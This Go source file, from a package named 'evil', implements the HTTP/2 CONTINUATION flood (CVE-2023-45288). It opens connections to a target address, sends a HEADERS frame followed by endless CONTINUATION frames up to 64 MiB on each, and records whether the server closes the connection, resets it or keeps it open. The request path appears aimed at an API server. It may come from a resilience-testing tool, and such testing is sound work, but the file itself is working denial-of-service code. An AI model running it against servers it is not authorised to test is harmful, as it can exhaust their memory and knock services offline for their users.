package evil

import (
	"bytes"
	"context"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// continuation sends 64 MiB of headers without an end on one connection after the
// other: a HEADERS frame, then CONTINUATION frames (CVE-2023-45288).
func (r *run) continuation(ctx context.Context, address string) error {
	r.ready()
	until := time.Now().Add(r.For)
	var more bytes.Buffer
	e := hpack.NewEncoder(&more)
	if err := e.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 12<<10), Sensitive: true}); err != nil {
		return err
	}
	for round := 0; round < 5 && ctx.Err() == nil && time.Now().Before(until); round++ {
		f, err := openFrames(ctx, address)
		if err != nil {
			r.note("connection %d: %v", round+1, err)
			if strings.Contains(err.Error(), "not HTTP/2") {
				r.count("connection: no HTTP/2 without a certificate")
				return nil
			}
			r.count("connection: refused")
			if !pause(ctx, 200*time.Millisecond) {
				break
			}
			continue
		}
		sent := f.unending(headers("/api/v1/nodes", address), more.Bytes(), 64<<20)
		select {
		case <-f.ended:
			r.count("connection: closed by the server")
		case <-time.After(3 * time.Second):
			r.count("connection: open after 64 MiB of headers")
		}
		f.conn.Close()
		<-f.ended
		r.note("connection %d: %d bytes of headers sent, %d resets and %d GOAWAY received", round+1, sent, f.resets.Load(), f.goAways.Load())
	}
	return nil
}

// unending sends headers until most bytes are sent or the connection fails.
func (f *frames) unending(first, more []byte, most int) (sent int) {
	f.mu.Lock()
	defer f.mu.Unlock()
	_ = f.conn.SetWriteDeadline(time.Now().Add(10 * time.Second))
	err := f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: first})
	for err == nil && sent < most {
		if err = f.framer.WriteContinuation(1, false, more); err == nil {
			sent += len(more)
		}
	}
	return sent
}
